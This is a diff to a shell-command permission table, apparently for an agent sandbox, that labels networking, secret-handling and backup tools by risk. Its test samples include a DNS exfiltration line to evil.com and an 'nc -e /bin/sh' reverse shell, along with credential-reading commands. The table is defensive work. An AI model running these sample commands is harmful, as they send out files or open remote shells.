@@ -37,7 +37,7 @@ dig,nslookup,host,whois,drill,kdig,delv,resolveip,dog,doggo | network nodash | |
   dig $(cat f).evil.com
 ncat,netcat,socat,telnet,nc.openbsd,nc.traditional,websocat,cryptcat | danger,network,run | -46DdhklnNrStUuvzCbFcxe
   -i,-I,-M,-m,-O,-P,-p,-q,-s,-T,-V,-W,-w,-X,-x,-e,-c:= | =* | nc --version | nc example.com 80 ;; nc -e /bin/sh h 1
-nc | danger,network,run | -46dhklnNrtuvz -i,-p,-q,-s,-w,-W:= -e,-c:X -z>network | N* | nc --version | nc example.com 80
+nc | danger,network,run | -46dhklnNrtuvz -i,-p,-q,-s,-w,-W:= -e,-c:X -z>list,network | N* | nc --version | nc example.com 80
 scp,sftp,rcp,pscp | network,copy handler=remote | -346ABCOpqrTvR -c,-i,-J,-l,-P,-X,-b,-B,-s,-D:= -F,-o,-S,-D:X -b:SCRIPT
   | | scp --version | scp f h:/tmp/ ;; sftp -D ./c
 rsync | ask,copy handler=remote | -aAbcCdDEghHiIklLmnNoOpPqrRsStuUvWxXyzKJ0 -e,--rsh,-M,--remote-option:X -f,-T,-B:=
@@ -79,21 +79,29 @@ nmap | network single | -sS,-sT,-sU,-sV,-sn,-sP,-sL,-sC,-sA,-sF,-sX,-sN,-O,-A,-P
   --iflist>list -iL,--excludefile,--resume:R -oN,-oX,-oG,-oA,-oS:W
   --script,--script-args,--script-args-file,--datadir,--servicedb,--versiondb,--stylesheet:=>ask,run | N* | nmap
   --version ;; nmap -V ;; nmap --iflist | nmap example.com ;; nmap -sV -p 80 host ;; nmap --script x h ;; nmap -oN f h
-masscan,zmap,rustscan,tcpdump,tshark,wireshark,ettercap,aircrack-ng,hydra,sqlmap,nikto,gobuster,ffuf,wfuzz,dnsrecon,
+tcpdump | ask,network,run | -D,--list-interfaces,--version,-h,--help>list -r:R>list -AbefHIJKlLNnOpqStuUvxX# -c,-s,-i,-y,-E,-j:=
+  --number --count -F:R -z:X -V:R -w:W | =* | tcpdump -D ;; tcpdump -nr a.pcap port 80 | tcpdump -i eth0 ;; tcpdump -r a -w M ;;
+  tcpdump -r a -z ./x
+masscan,zmap,rustscan,tshark,wireshark,ettercap,aircrack-ng,hydra,sqlmap,nikto,gobuster,ffuf,wfuzz,dnsrecon,
   responder,msfconsole,john,hashcat,arpspoof,bettercap,iperf,iperf3,speedtest,speedtest-cli,fast,ab,wrk,hey,vegeta,
   siege,k6,locust,httping,snmpwalk,snmpget,ldapsearch,smbclient,rpcclient,showmount-net,nbtscan | ask,network,run | | =*
   | masscan --version | masscan example.com
 mail,mailx,sendmail,mutt-send,msmtp,swaks,ssmtp,mpack,telegram-send,slack,curl-mail | danger,network,run | | =* | mail
   --version | mail a@b.c
-ssh-agent,ssh-copy-id,ssh-keyscan,klist-net,keyring,secret-tool,lpass,sops,age,keybase,infisical,1password |
+ssh-agent,ssh-copy-id,klist-net,keyring,secret-tool,lpass,sops,age,keybase,infisical,1password |
   danger,secret,run,network | -lL>list --list>list | =* | pass --version | op read x ;; pass show x
+ssh-keyscan | network,read | -46cDHqv -f:R -O,-p,-T,-t:= | N* | | ssh-keyscan -t ed25519 github.com
 kinit | danger,secret,run,network | | =* | | kinit -l 1d u ;; kinit u
 ssh-add | danger,secret,run | -lL>list -v -q -d,-D,-x,-X,-k,-K,-c>danger,delete,run -t,-T,-E:= -s,-e:X | =* | ssh-add -l
   | ssh-add k ;; ssh-add -l -D ;; ssh-add -l -s ./lib.so
 vault version,bw status,pass version,pass help,gopass version | read full | | | | pass show x
 doppler projects,doppler secrets | danger,secret,network,delete,run | | =* | | doppler projects delete backend --yes
 gh,glab,hub,tea | network,run sub | -R,--repo:= --hostname:= --help | | gh --version | gh pr list
-gh auth,gh config,gh api,glab auth,glab api,gh attestation | danger,network,run,secret nodash | | =* | | gh auth token
+gh auth,glab auth | danger,network,run,secret sub | | | | gh auth token
+gh auth status | network,read | -a,--active -h,--hostname:= -t,--show-token>danger,secret | | | gh auth status ;; gh auth
+  status -t
+glab auth status | network,read | -a,--all --hostname,-h:= -t,--show-token>danger,secret | | | glab auth status -t
+gh auth *,glab auth *,gh config,gh api,glab api,gh attestation | danger,network,run,secret nodash | | =* | | gh auth token
   ;; gh api -X DELETE x
 gh repo,gh release,gh issue,gh pr,gh run,gh workflow,gh cache,gh gist,gh label,gh project,gh org,gh search,gh status,
   gh browse,gh ruleset,glab mr,glab issue,glab repo,glab ci,glab release | network,run sub | -R,--repo:= | | | gh pr
@@ -114,8 +122,10 @@ rclone delete,rclone purge,rclone deletefile,rclone rmdir,rclone rmdirs,rclone c
   rclone move,rclone moveto,restic forget,restic prune,borg delete,borg prune,borg compact |
   danger,delete,network,write,run nodash | | =* | | rclone purge r:x ;; restic forget --prune 1
 rclone ls,rclone lsd,rclone lsl,rclone lsf,rclone lsjson,rclone size,rclone tree,rclone about,rclone check,
-  rclone md5sum,restic snapshots,restic stats,restic ls,borg list,borg info | danger,network,read,run nodash | | =* | |
-  rclone ls r:x
+  rclone md5sum,restic snapshots,restic stats,restic ls,borg list,borg info | network,read | -vqRlc --json --long
+  --max-depth:= --include:= --exclude:= --human-readable --full --latest:= --tag:= --host:= --path:= --short --last:=
+  --format:= --fast-list --no-lock --size-only --one-way --config,--password-command,--rsh,--remote-path:X | =* | | rclone
+  ls r:x ;; borg list --rsh x r ;; restic ls latest --password-command x
 rclone version,rclone listremotes,rclone help | read full | -v --long --check>network | | rclone version ;; rclone
   listremotes | rclone version --check
 rclone *,restic *,borg * | danger,network,run nodash | | =* | | rclone copy a b
@@ -127,6 +137,10 @@ gh secret,gh variable,gh ssh-key,gh gpg-key,gh codespace | danger,network,run,se
 gh secret delete,gh secret remove,gh variable delete,gh ssh-key delete,gh gpg-key delete,gh extension remove,
   gh alias delete,gh codespace delete | danger,delete,network,run nodash | | =* | | gh secret delete X
 gh extension,gh alias | danger,network,run,write sub | | | | gh extension exec x
+gh alias list,gh version,gh completion,gh help | read full | -s,--shell:= | =* | gh alias list ;; gh version | gh alias list
+  --nope
+gh extension list,gh secret list,gh variable list,gh ssh-key list,gh gpg-key list,gh codespace list | network,read |
+  -aoeu,-L,-w:= --app:= --env:= --json:= --jq:= --limit:= | | | gh secret list
 gh extension *,gh alias * | danger,network,run,write nodash | | =* | | gh extension exec x ;; gh alias set --shell x id
 gh secret *,gh variable *,gh ssh-key *,gh gpg-key *,gh codespace * | danger,network,run,secret nodash | | =* | | gh
   secret set X
